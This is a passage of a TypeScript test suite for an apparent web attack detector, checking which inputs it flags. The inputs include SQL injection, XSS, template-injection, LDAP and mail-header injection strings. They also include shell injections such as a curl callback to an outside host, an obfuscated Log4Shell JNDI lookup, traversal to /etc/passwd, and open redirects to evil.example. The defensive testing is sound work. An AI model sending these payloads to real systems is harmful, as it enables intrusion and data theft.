  for (const v of ['{{>../../etc/passwd}}', '{{> ./../../x}}', '${dir()}', '${locals()}']) t.ok(q(v).includes('ssti'), v)
  for (const v of ['{{> ../partials/header}}', '{{> header}}', 'the ${dir} of it']) t.notOk(q(v).includes('ssti'), v)
})

t.test("forty-eighth round: a usage's choices closed before a pipe no longer send the shell's reading back (a value held the event loop)", async (t) => {
  // `{[a|b]} {c|d}`: at the second pipe the look back for `[` found the first choices, closed before it, and the reading went back to
  // their `]`, then forward to the same pipe, forever (a tldr page's `systemctl kill {{[-s|--signal]}} {{signal_number|signal_name}}`
  // between backticks after a line break reached it; older than the round)
  for (const v of ['{[a|b]} {c|d}', 'systemctl kill {{[-s|--signal]}} {{signal_number|signal_name}} {{unit}}', '[a|b] c|d', '[x|y]]|z']) t.type(shellInjection(v), 'boolean', v)
  t.same(json({ body: '- Send the `SIGTERM` signal to a unit to terminate it:\n`systemctl kill {{[-s|--signal]}} {{signal_number|signal_name}} {{unit}}`' }), [], 'the tldr page')
  // choices around the pipe are still passed over, and a pipe after them still read
  t.same(q('mode [on|off] for the lamp'), [], 'choices')
  t.ok(q('x [on|off] | id').includes('rce'), 'a pipe after the choices')
})

t.test('forty-eighth round: random short values of the shell\'s signs all end (no value holds the reading; before the round\'s fix, one of the first thousand did)', async (t) => {
  const signs = [...'[]{}()|&;`$<>=\'"\\\n \t#!*?~,.-_:/@%^+', 'a', 'id', 'x', 'for ', 'do ', 'in ', 'case ', 'esac', '${', '$(', '((', '{{', '}}', 'echo ', '<(', '..', '*/', '/*', '--', '[a|b]', '[-s|--x]', '{c|d}']
  let seed = 11
  const next = (n: number) => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff) % n)
  let judged = 0
  for (let i = 0; i < 20000; i++) {
    let v = ''
    for (let k = 1 + next(24); k > 0; k--) v += signs[next(signs.length)]
    shellInjection(v)
    judged++
  }
  t.equal(judged, 20000, 'every value judged')
})

t.test("forty-eighth round: the hundred-and-eleventh part's misses after its measurement, by kind", async (t) => {
  // an echo of a marker with dashes, in a brace group, between backticks, after a line break
  for (const v of ['; { echo secbot-cmdi-marker; }', '`echo secbot-cmdi-marker`', '\necho secbot-cmdi-marker']) t.ok(q(v).includes('rce'), v)
  // a command substitution right after `;`, `&&` or `||`: its own command line, whose output runs
  for (const v of [';`echo aWQ= | base64 -d`', 'a &&`echo aWQ= | base64 -d`']) t.ok(q(v).includes('rce'), v)
  // not a Markdown page's command alone in its code span after a line break
  for (const v of ['- Remove a directory:\n`rm -rf {{path}}`', '- List:\n`ls -la | grep x`']) t.same(json({ body: v }), [], v)
  // a condition between numbers with comments for blanks
  for (const v of ['1/**/AND/**/1', '1/**/or/**/2']) t.ok(q(v).includes('sqli'), v)
  for (const v of ['1 and 1', 'x = 1/**/and/**/y']) t.notOk(q(v).includes('sqli'), v)
  // a query opening on `@` before a private host
  t.ok(q('http://evil.com?@127.0.0.1', 'url').includes('ssrf'), 'the query is the authority to a lenient parser')
  t.notOk(q('https://example.com/?@x', 'url').includes('ssrf'), 'a path before the query')
})

t.test("forty-eighth round: a component's script block after blank lines (the hundred-and-twelfth part's Markdown, after its measurement)", async (t) => {
  // Observable Plot's VitePress pages: `<script setup>`, a blank line, then its imports — the component's own script, as without the line
  t.same(json({ body: '<script setup>\n\nimport * as Plot from "@observablehq/plot";\nimport * as d3 from "d3";\n\n</script>' }), [], 'after a blank line')
  // a sink in it, or no import or declaration first, is judged as before
  for (const v of ['<script setup>\n\nimport * as Plot from "x";\nalert(1)\n</script>', '<script setup>\n\nalert(1)\n</script>']) t.ok(json({ body: v }).includes('xss'), v)
})

t.test("forty-ninth round: the hundred-and-seventh, ninth and eleventh parts' misses after their measurements, by kind", async (t) => {
  // a value list continued from the value's start, closed, then a statement (a fuzzer's suffix inside VALUES (…) or IN (…))
  for (const v of [",0,0)waitfor delay'0:0:20'--", ',0);drop table users--', ',null) union select 1,2--']) t.ok(q(v).includes('sqli'), v)
  // not a sentence's list after a comma, nor words as the list's items
  for (const v of [', 2) select the option', ', 3, 4) Delete the file', ', and so on) select one']) t.notOk(q(v).includes('sqli'), v)
  // an empty substitution before a program where a command starts, as `` ``id `` is
  for (const v of ['$()id', ';$()id', 'x || $()ls']) t.ok(q(v).includes('rce'), v)
  t.ok(path('/$()id').includes('rce'), 'in a path')
  // inside a word it runs another name; alone or before prose, nothing
  for (const v of ['a$()id', '$()', '$() is empty']) t.notOk(q(v).includes('rce'), v)
  // $IFS glued to a program where a command starts, and to more letters (a generator's payload naming a variable it never set)
  for (const v of [';curl$IFSrce_k3x9q.glc.st;', '||ping$IFSx.example;']) t.ok(q(v).includes('rce'), v)
  for (const v of ['echo $IFSfoo', 'x$IFSy', 'the $IFS variable']) t.notOk(q(v).includes('rce'), v)
  // an LDAP filter's breakout opening the value on parentheses closed
  for (const v of ['))(cn=', ')))(uid=x']) t.ok(q(v).includes('ldapi'), v)
  t.notOk(q('f(g(x))(cn=1)').includes('ldapi'), "a call's result called again")
  // a climb to a probed file is both traversal and the probe for that file
  for (const p of ['/..;/../.env', '/;/%2e%2e%2f%2f.env', '//../../.env']) {
    const found = path(p)
    t.ok(found.includes('path_traversal') && found.includes('scanner'), p)
  }
  t.same(path('/a/../b.json'), [], 'a climb that is no traversal, to no probed file')
  t.same(path('/../../windows/win.ini'), ['path_traversal'], 'a climb to a system file stays traversal')
})

t.test("forty-ninth round: the hundred-and-thirteenth part's misses after its measurement, by kind", async (t) => {
  // a string context's splice around a sink, any operator JavaScript reads there
  for (const v of ["'te' % alert('%') % 'xt';", "'te' == alert('==') == 'xt';", "'te' ? alert('ifelsesh'): 'xt';", '"a" !== prompt(1) !== "b"']) t.ok(q(v).includes('xss'), v)
  // not two literals of different quotes, nor a comparison's words around a sink's name
  for (const v of ["'a' == confirm('b') == \"c\"", "'x' == alert level == 'y'"]) t.notOk(q(v).includes('xss'), v)
  // a JavaServer Faces resource's library or locale named by a climb
  for (const v of ['javax.faces.resource./WEB-INF/web.xml.jsf?ln=..', '/faces/javax.faces.resource/web.xml?loc=../WEB-INF', '/faces/javax.faces.resource/web.xml?v=1&ln=..\\WEB-INF']) t.ok(q(v, 'file').includes('path_traversal'), v)
  t.notOk(q('/faces/javax.faces.resource/x.css?ln=css', 'file').includes('path_traversal'), 'a library named')
  // Rails' development information pages and Oracle E-Business Suite's repository file, probed at the root
  for (const p of ['/rails/info/properties', '/rails/info/routes', '/OA_HTML/jtfwrepo.xml']) t.ok(path(p).includes('scanner'), p)
})

t.test('forty-ninth round: a handler inside a tag as sent is found back from the handler (cost: not 400 characters scanned after every `<`)', async (t) => {
  // the shape that cost 173 ms for one 16 KiB body: each `<a` scanned forward for a handler; now each handler looks back to its tag
  t.same(json({ a: `&lt;${'<a'.repeat(8000)}` }), [], 'no handler, many tags')
  t.ok(json({ a: `&lt;${'<a'.repeat(8000)} onclick=alert(1)>` }).includes('xss'), 'a handler after them, inside the last tag')
  t.ok(q('<img src=x &gt; onerror=alert(1)>').includes('xss'), 'decoding made a `>` before the handler: the tag as sent runs on')
})

t.test("forty-ninth round (cost): a variant's look up remembered per value, globs tried only against paths of as many segments — the same verdicts", async (t) => {
  // the look up from a variant's line ends at 64 lines (the declaration found 64 lines up, not 65), each line now read once: the verdicts at
  // the edge are the ones of the look made afresh for every variant
  const variants = (n: number, last: string) => json({ code: `type encoding =\n${'  | Gzip\n'.repeat(n)}  | ${last}\n` })
  t.same(variants(63, 'Sort'), [], 'a program-named variant, the declaration within reach')
  t.same(variants(64, 'Sort'), ['rce'], 'and past it')
  t.same(variants(64, 'Compress'), [], 'another, within reach')
  t.same(variants(65, 'Compress'), ['rce'], 'and past it')
  // a bracket set holding `/` stands for one character: its slashes are no segment's
  for (const v of ['cat /[e//]tc/[p//]asswd', '/???/c?t /?tc/?as?wd', '*bin/bash -c id']) t.ok(q(v).includes('rce'), v)
  // the shapes that cost most (16 KiB bodies), judged as before: a pipe opening a line pipes nothing in sh, the globs name no system path
  for (const unit of ['x\n| id', '2>&1<%/*']) t.same(json({ a: unit.repeat(Math.ceil(16_000 / unit.length)).slice(0, 16_000) }), [], JSON.stringify(unit))
})

t.test("forty-ninth round: the hundred-and-fifteenth part's misses after its measurement", async (t) => {
  // a Spring bean's method called from a Thymeleaf or SpEL expression; Handlebars' lookup handed the constructor
  for (const v of ['${@environment.getSystemProperties()}', '#{@systemProperties.get("user.home")}', "{{lookup constructor 'constructor'}}"]) t.ok(q(v).includes('ssti'), v)
  // a bean named without a call, an application's bean (the round's review), a lookup of a plain property: no code run
  for (const v of ['${@beanName}', '*{@myBean.format(x)}', '{{lookup person "name"}}', 'mail ${@user.name}']) t.notOk(q(v).includes('ssti'), v)
})

t.test("forty-ninth round: the hundred-and-sixteenth part's false positives after its measurement, and the round's review", async (t) => {
  // (review) a program's name before `<-` stays a command: the redirect from `-` succeeds once a file `-` exists (`>-` makes one, in this
  // value or an earlier request), and the arguments' substitutions run before it fails — Haskell's comprehension `[ w | w <- ws ]` stays a
  // false positive
  for (const v of ['127.0.0.1;>-;id <- -u', 'x;id <- `touch /tmp/x`', 'x | id < /etc/passwd', '; w <-ws']) t.ok(q(v).includes('rce'), v)
  // (review) every word `$IFS` is glued to where a command starts, not the first alone
  for (const v of ["x;a$IFSb;touch$IFS'/tmp/x'", 'x\na$IFSb\ntouch$IFS/tmp/x']) t.ok(q(v).includes('rce'), v)
  // (review) an application's bean in a Thymeleaf page is its own; the Spring context's environment is not
  t.same(json({ body: `<div th:if="\${@featureFlags.isEnabled('beta')}">` }), [], "an application's bean")
  t.ok(q('${@environment.getProperty("x")}').includes('ssti'), 'the environment')
  // (review) Python printing between strings is no splice around a sink
  t.same(json({ code: "print('a', print('b'), 'c')" }), [], 'print')
  // Moose's Perl building its code in strings: a Razor block C#'s compiler refuses (a character literal of several characters, `$name`)
  t.same(json({ code: "    return 'map { $_[0]->() } @{ (' . $slot_access . ') }';\n}\n\nno Moose::Role;" }), [], 'Perl, no Razor')
  // a block that compiles, or one hiding its refusal where the compiler does not look, is still Razor
  for (const v of ['@{ System.Diagnostics.Process.Start("id"); }', '@{ var s = "$x"; System.Diagnostics.Process.Start("id"); }', '@{\n#if false\n$x\n#endif\nSystem.Diagnostics.Process.Start("id");\n}']) t.ok(q(v).includes('ssti'), v)
})

t.test("forty-ninth round: the hundred-and-seventeenth part's misses after its measurement", async (t) => {
  // a Log4Shell scanner's spelling: empty system properties between the letters, the separator's property for the colon
  const spelt = '${${sys:sun.cpu.isalist}j${sys:sun.cpu.isalist}n${sys:sun.cpu.isalist}d${sys:sun.cpu.isalist}i${sys:sun.cpu.isalist}${sys:path.separator}${lower:LDAP}${sys:path.separator}${sys:file.separator}${sys:file.separator}x.example/a}'
  t.ok(q(spelt, 'q').includes('jndi'), 'jndi:ldap:// spelt with system properties')
  t.ok(jndiLookup(spelt), 'read by the lookup resolver')
  // the properties alone are no lookup of a provider
  for (const v of ['${sys:path.separator}', 'path: ${sys:file.separator}tmp', '${sys:sun.cpu.isalist}']) t.notOk(jndiLookup(v), v)
})

t.test("fiftieth round: the hundred-and-nineteenth part's misses after its measurement, by kind", async (t) => {
  // a short whole value breaking out of its LDAP clause and opening the next one, or closing two after a wildcard
  for (const v of ['*)(', 'admin)(&', '*)(|', 'x)(!', '*))', 'adm*))']) t.ok(q(v).includes('ldapi'), v)
  t.ok(header('x-client-data', 'admin)(&').includes('ldapi'), 'in a header')
  // not a call's or a note's parentheses, nor a smiley, a kiss, a name and a note (review)
  for (const v of ['f(x)(', 'see (note*))', 'smile :)(', 'a)(b', '*) (see above', 'love you :*))', 'see you soon :*))', 'John Doe)(', 'see note)(', 'ok*) )']) t.notOk(q(v).includes('ldapi'), v)
  // a mail header naming an address after a break in a short value: the form's address spliced into the message's headers
  for (const v of ['test@test.com\nBcc: attacker@evil.com', 'a@b.com\r\nCc: x@y.z', 'me@example.org\nReply-To: <x@evil.example>']) t.ok(q(v, 'email').includes('crlf'), v)
  // not a line of text after a break with no address, nor prose
  for (const v of ['Hi\nTo: all', 'Dear team,\nFrom: me, at example dot com', 'Hi,\nplease add\ncc: jane.doe@example.com\nthanks', 'Thanks!\nfrom: jane@example.com', 'Invoice#123\nTo: billing@example.com', 'Regards\nFrom: anna.m@example.de']) t.notOk(q(v, 'message').includes('crlf'), v)
  // a redirect as the application hands it to the browser: an escape it leaves is read after the authority, a userinfo's `%2F`
  const once = (v: string, name = 'next') => detector.detect({ ...base, query: `${name}=${encodeURIComponent(v)}` })
  for (const v of ['https://app.example%2F@evil.example', '//shop.example.com%2F@evil.example', 'https://shop.example.com%23@evil.example']) {
    t.ok(once(v).includes('open_redirect'), `${v}, sent encoded once more`)
    t.ok(json({ next: v }).includes('open_redirect'), `${v}, in a JSON field`)
  }
  // as sent once (the application decodes the escape itself), a path on the site or a plain URL: as before
  for (const v of ['https://app.example%2F@evil.example', 'https://evil.example%2F']) t.notOk(detector.detect({ ...base, query: `next=${v}` }).includes('open_redirect'), `${v}, sent as is`)
  for (const v of ['%2Fdashboard%3Fa%3Db', 'https%3A%2F%2Fapp.example%2Fx', 'https://app.example/a%2Fb']) t.notOk(once(v).includes('open_redirect'), v)
  // (review) a URL the browser refuses (an encoded slash or hash in its host: an own page's path encoded twice), or one to our own host
  for (const v of ['https://shop.example.com%2Fpath', 'https://shop.example.com%2Fdocs%2Fa.html', 'https://shop.example.com%3A443/x', '%2F%2Fshop.example.com%2Fhome', 'https://evil.example%2F', 'https://evil.example%23']) t.notOk(once(v).includes('open_redirect'), v)
})

t.test("fiftieth round: the hundred-and-twenty-second part's false positives after its measurement: SQL migrations sent as data", async (t) => {
  const snippet = (v: string) => json({ snippet: v })
  // one definition on one line, ended where the value ends (Drizzle's migrations), and a migration's statements ended by its breakpoints
  for (const v of ["ALTER TABLE monitor ADD `regions` text DEFAULT '' NOT NULL;", "ALTER TABLE `page` ADD `default_locale` text DEFAULT 'en' NOT NULL;--> statement-breakpoint\nALTER TABLE `page` ADD `locales` text;", "PRAGMA foreign_keys=OFF;--> statement-breakpoint\nCREATE TABLE `__new_page` (\n\t`id` integer PRIMARY KEY NOT NULL,\n\t`created_at` integer DEFAULT (strftime('%s', 'now'))\n);\n--> statement-breakpoint\nDROP TABLE `page`;"]) {
    t.same(snippet(v), [], v)
    t.same(q(v), [], `${v}, as a query's value`)
  }
  // Prisma's: a leading block comment of warnings
  const prisma = '/*\n  Warnings:\n  - THIS IS BREAKING\n\n*/\n-- AlterEnum\nBEGIN;\nCREATE TYPE "O_new" AS ENUM (\'SPAN\', \'EVENT\');\nALTER TABLE "o" ALTER COLUMN "type" TYPE "O_new";\nCOMMIT;'
  t.same(snippet(prisma), [], prisma)
  // still read: a drop alone, a breakout before the definition, a probe after it; (review) a breakout inside a one-line definition's
  // literals or a double quote's, inside a leading "comment", before a value cut inside one, a query after a PRAGMA, and a breakout after
  // three definitions (older than the round)
  for (const v of ['DROP TABLE users;', "x'; ALTER TABLE t ADD c text DEFAULT 'x';", "ALTER TABLE t ADD c text DEFAULT 'x'; SELECT pg_sleep(5);",
    "ALTER TABLE t ADD c text DEFAULT ' OR 'a'<'b' OR 'x'<'x;", "ALTER TABLE t ADD c text DEFAULT ' OR 1=1 -- ';", "ALTER TABLE t ADD c int DEFAULT ' union/*!select*/ password from users where 'a'<'a;",
    'ALTER TABLE t ADD c text " OR "a"<"b" OR "x"<"x;', "CREATE INDEX i ON t (a) WHERE ' OR 1 OR 'x;",
    "/*'; DROP TABLE users; -- */\nCREATE TABLE a (b int);\nCREATE TABLE c (d int);\nCREATE TABLE e (f int);\n-- ",
    '1 OR 2>1\n*/\nALTER TABLE t ADD c int;', '1 OR 2>1 /*\n-- AddForeignKey\nALTER TABLE t ADD c int;\n*/', '1);\n-- DropTable\nDROP TABLE users;',
    'pragma table_info(users);\nselect password from users;', "CREATE TABLE a (b int);\nCREATE TABLE c (d int);\nCREATE TABLE e (f int);\n' OR 'a'<'b' /*\nx\n*/",
    // (older than the round) a breakout whose quotes pair up inside a literal of a migration under a comment line, a statement after a line
    // MySQL does not read as a comment
    "-- x\nALTER TABLE t ADD c text DEFAULT ' OR 'a'<'b' OR 'x'<'x;", "-- AlterTable\nALTER TABLE t ADD c text DEFAULT ' UNION SELECT password FROM users WHERE 'a'='a;", '--1 OR 2>1;\nALTER TABLE t ADD c int;']) t.ok(q(v).includes('sqli'), v)
})

t.test("fiftieth round: the hundred-and-twenty-first part's misses after its measurement", async (t) => {
  // a name's prefix then a wildcard closing its LDAP clause, under a name a directory is asked by
  for (const [k, v] of [['username', 'admin*)'], ['uid', 'j.doe*)'], ['filter', 'adm*)']]) t.ok(q(v!, k).includes('ldapi'), `${k}=${v}`)
  // (review) not a price's footnote or a kiss in any other field, nor an emoticon or a wildcard in parentheses
  for (const v of ['Preis*)', 'Versandkosten*)', 'xoxo*)', 'note :*)', '(*)', 'a *)']) {
    t.notOk(q(v).includes('ldapi'), v)
    t.notOk(json({ label: v }).includes('ldapi'), `${v} in JSON`)
  }
  // (review) a redirect whose fragment or query names a host is no signal by itself: a page's anchor, a lookup site's query
  for (const v of ['https://partner.example/#contact.us', 'https://www.whois.example/?example.org', 'https://translate.example/#de.wikipedia.org', 'https://docs.example.org/guide#config.yaml']) t.notOk(q(v, 'next').includes('open_redirect'), v)
})

t.test('fifty-first round\'s review: a SQL program sent as data whose literals, quotes or leading comment break out of an application\'s SQL', async (t) => {
  const snippet = (v: string) => json({ snippet: v })
  for (const v of [
    // a literal whose text opens or closes on an operator around a boolean, a union or a comment (string context)
    "-- x\nALTER TABLE t ADD c text DEFAULT '-0 OR 1#';", "CREATE TABLE a (b text);\nINSERT INTO a VALUES ('::text OR 2>1 -- ');",
    "CREATE TABLE t (\n  id integer PRIMARY KEY,\n  c text DEFAULT '-0 OR 1 -'\n);", "-- x\nALTER TABLE t ADD c text DEFAULT ' IS NULL UNION(SELECT 1,password FROM users) -- ';",
    // a comment inside a literal: the lines after it are the application's statements
    "-- Migration\nALTER TABLE t ADD c text DEFAULT '-0;#';\nCREATE TABLE pwn (x int);\n-- ", "-- AlterTable\nALTER TABLE \"t\" ADD COLUMN \"c\" TEXT DEFAULT '::text; -- ';\n\n-- CreateTable\nCREATE TABLE pwn (x int);\n\n-- ",
    // MySQL's backslash escape, a double quote's literal
    "-- x\nALTER TABLE t ADD c text DEFAULT \\''||1#'';", '-- x\nALTER TABLE t ADD c text DEFAULT " OR 2>1 OR ";', 'CREATE TABLE a (b text);\nALTER TABLE a ADD c text DEFAULT "||1||";',
    // text after a leading block comment on its line (a number's splice, the migration hidden in a second comment)
    '/* Warnings */ 1 OR 2>1 /*\n-- AlterTable\nALTER TABLE "t" ADD COLUMN "c" TEXT;\n*/',
    // (fifty-first round's second review, each run against MariaDB 10.11 as `WHERE note = "…"`, `= '…'` or `IN ('…')`: every row) two of MySQL's `\"` keep the lines' counts even,
    // a double-quoted operator's word joins two strings, a hex colour's `#` after an operator hides the literal's closing quote
    'CREATE TABLE t (a int);\nALTER TABLE t ADD b text DEFAULT \\"x\\"y" OR 2>1 OR ";\nDROP TABLE u;\n',
    'CREATE TABLE t (a int);\nALTER TABLE t ADD b text DEFAULT "or"1"or";\nDROP TABLE u;\n',
    "CREATE TABLE t (a int);\nALTER TABLE t ADD c text DEFAULT '-0#fff';\nOR 2>1 #",
    "CREATE TABLE t (a int);\nINSERT INTO t VALUES (',1)#abc');\nOR 2>1 #",
  ]) {
    t.ok(q(v).includes('sqli'), v)
    t.ok(snippet(v).includes('sqli'), `${v} (JSON)`)
  }
  // (left open by the review, closed after it) a numeric context's tautology with no quote, comment or comparison
  for (const v of ['0 OR 1', '-1 OR true', '1 or 1', '-1 OR 1']) t.ok(q(v, 'id').includes('sqli'), v)
  for (const v of ['1 or 2', '10 or 100', 'yes or no', '1 or 2 tablespoons']) t.same(q(v), [], `${v}: two choices`)
  // a document's statement whose quotes break out
  const doc: Record<string, string> = { query: "delete from t where a = ' OR 2>1 OR '" }
  for (let i = 0; i < 13; i++) doc[`f${i}`] = `value number ${i}`
  t.ok(json(doc).includes('sqli'), "a document's statement breaking out")
  // a command field's command line whose quotes break out (`startDate`, `latest`: COMMAND_FIELD's words inside other names)
  for (const [key, v] of [['startDate', "./x' OR 2>1 -- "], ['latest', "node' OR 1=1 #"], ['command', "./x' OR '1'='1"]] as [string, string][]) t.ok(json({ [key]: v }).includes('sqli'), `${key}: ${v}`)
  for (const [key, v] of [['command', "npm run build -- --env='prod'"], ['script', "echo 'done' && ls -la"]] as [string, string][]) t.notOk(json({ [key]: v }).includes('sqli'), `${key}: ${v} stays a command line`)
  // still a program: real migrations' literals and identifiers
  for (const v of [
    '-- CreateEnum\nCREATE TYPE "Status" AS ENUM (\'DRAFT\', \'PUBLISHED\', \'ARCHIVED\');\n\n-- AlterTable\nALTER TABLE "Post" ADD COLUMN     "status" "Status" NOT NULL DEFAULT \'DRAFT\';\n',
    "CREATE TABLE public.users (\n    id bigint NOT NULL,\n    email character varying DEFAULT ''::character varying NOT NULL,\n    settings jsonb DEFAULT '{}'::jsonb NOT NULL\n);\n",
    "CREATE TABLE t (\n  a text DEFAULT 'black and white',\n  b text DEFAULT 'rock & roll',\n  c text DEFAULT 'n/a'\n);",
    'CREATE TABLE t (\n  "order" int,\n  "group" text,\n  c text DEFAULT \'primary #1e40af\'\n);',
    '/*\n  Warnings:\n\n  - You are about to drop the column `bio` on the `User` table.\n\n*/\n-- AlterTable\nALTER TABLE "User" DROP COLUMN "bio",\nADD COLUMN     "role" "Role" NOT NULL DEFAULT \'USER\';\n',
  ]) t.same(snippet(v), [], v)
})

t.test("fifty-first round: the hundred-and-twenty-sixth part's false positives after its measurement (an application's own templates)", async (t) => {
  // a Blade component's SVG icon, its attributes merged in PHP: an icon, drawn, running nothing
  const icon = "<svg {{ $attributes->merge(['class' => 'icon', 'viewBox' => '0 0 448 512', 'xmlns' => 'http://www.w3.org/2000/svg', 'aria-hidden' => 'true']) }}><path d=\"M400 32H48C21.5 32 0 53.5 0 80v352\"/></svg>"
  t.same(json({ snippet: icon }), [], 'a Blade icon')
  for (const v of ["<svg {{ $attributes->merge(['viewBox' => '0 0 4 4']) }} onload=alert(1)><path d=\"M4\"/></svg>", "<svg 'viewbox' => '0 0 1 1'><path d=\"M1\"/><script>alert(1)</script></svg>"]) t.ok(q(v).includes('xss'), `${v}: a handler or a script in it still counts`)
  // Django's tags naming the page's own templates and tag libraries
  for (const v of ['{% load static i18n humanize in_list %}', '{% extends "helpdesk/public_base.html" %}{% load i18n %}', '{% include "partials/_ethicalads-tag.html" with ea_type="image" ea_id="package-detail-sidebar" %}']) t.same(q(v), [], v)
  t.ok(q('{% include "partials/x.html" with a=request.session.flush %}').includes('ssti'), 'a dotted lookup as an argument: Django calls the method it reaches')
  for (const v of ["{% include '/etc/passwd' %}", "{% include '../../etc/passwd.html' %}", '{% debug %}', '{% extends "a.html" %}{% debug %}', "{% include 'a.html' %}{{ 7*7 }}", "{% import 'os' %}", '{% load x %}{{7*7}}']) t.ok(q(v).includes('ssti'), `${v} is still a probe`)
})

t.test("fifty-first round: the hundred-and-twenty-fifth part's misses after its measurement (a scanner's echoed marker)", async (t) => {
  // an echo of one token of letters and digits mixed, after a quote's break or a separator: a scanner's proof that its command ran
  for (const v of ["'; echo lv188code; //", "x'; echo lv188code", '"; echo lv188code; //', '`id`; echo r4nd0m']) t.ok(q(v).includes('rce'), v)
  // prose and versions echoed are not markers
  for (const v of ['a; echo hello', 'then; echo v1.2', 'done; echo abc']) t.notOk(q(v).includes('rce'), v)
  // a string literal broken out of, a marker printed, the line's rest commented out: code injected and run
  for (const v of ["';print('lv188code');//", '";echo "x";#', "'); print('hi'); //"]) t.ok(q(v).includes('rce'), v)
  for (const v of ["print('hello') # greet", "x = 'a';print('b');# c"]) t.notOk(q(v).includes('rce'), `${v}: a program's own line`)
})

t.test("fifty-second round: the spent hundred-and-twenty-second part's false positives — a migration cut inside a table's definition, a generic component (a component's script cut and a Dockerfile's comments withdrawn after the round's second review)", async (t) => {
  for (const p of [
    '    CONSTRAINT "gradings_pkey" PRIMARY KEY ("id")\n);\n\n-- AddForeignKey\nALTER TABLE "gradings" ADD CONSTRAINT "gradings_traceId_fkey" FOREIGN KEY ("traceId") REFERENCES "traces"("id") ON DELETE CASCADE ON UPDATE CASCADE;\n',
    '    "updatedAt" TIMESTAMP(3) NOT NULL,\n    "status" "ReportStatus" NOT NULL,\n\n    CONSTRAINT "Dataroom_pkey" PRIMARY KEY ("id")\n);\n\n-- CreateIndex\nCREATE UNIQUE INDEX "Dataroom_pId_key" ON "Dataroom"("pId");\n',
    '<script setup lang="ts" generic="T">\nimport { computed, watch, ref, type PropType } from "vue";\nimport OButton from "@/components/button/Button.vue";\n',
  ]) t.same(field(p), [], p.slice(0, 80))
  for (const [p, cls] of [
    ['x or 1=1\n);\ndrop table users;', 'sqli'],
    ['    "name" TEXT NOT NULL\n);\n\'; DROP TABLE users; --', 'sqli'],
    ['    "name" TEXT DEFAULT \'x\' OR 1=1\n);\nDROP TABLE users;', 'sqli'],
    ['defineExpose({ a: alert(1) });\n</script>\n<template><div /></template>', 'xss'],
    ['x = 1;\n</script>\n<template><img src=x onerror=alert(1)></template>', 'xss'],
    ['FROM alpine\nARG a=\\\n# c\n;id;\nRUN make all\nCMD ["x"]', 'rce'],
  ] as const) t.ok(field(p).includes(cls), `still read: ${p.slice(0, 80)}`)
})

t.test("fifty-second round: the spent hundred-and-thirtieth part's false positives — a migration's TRUNCATE, Room's query over one declaration, a condition on an indexed name", async (t) => {
  for (const p of [
    '-- Updates from version 0.3-stable\n\nTRUNCATE `messages`;\n\nALTER TABLE `messages`\n    ADD INDEX `index_index` (`user_id`, `cache_key`, `idx`);\n',
    '    @Query("DELETE FROM tasks WHERE task_id = :id AND start_ts >= :startTs")\n    fun deleteTaskFutureOccurrences(id: Long, startTs: Long)\n}\n',
    '    {% if entry.Books.comments[0] %}\n        <p>{{entry.Books.comments[0].text}}</p>\n    {% endif %}\n    </div>',
  ]) t.same(field(p), [], p.slice(0, 80))
  for (const p of ['-- x\nTRUNCATE users; SELECT SLEEP(5);\n', '@Query("select a from t") or 1=1', '@Query(" OR 1=1 OR ")', '@Query("select a from t where 1=1 or 1=1")', '{% if x[0].__class__ %}y{% endif %}', '{% if config[0] %}y{% endif %}']) t.ok(field(p).length > 0, `still read: ${p}`)
})
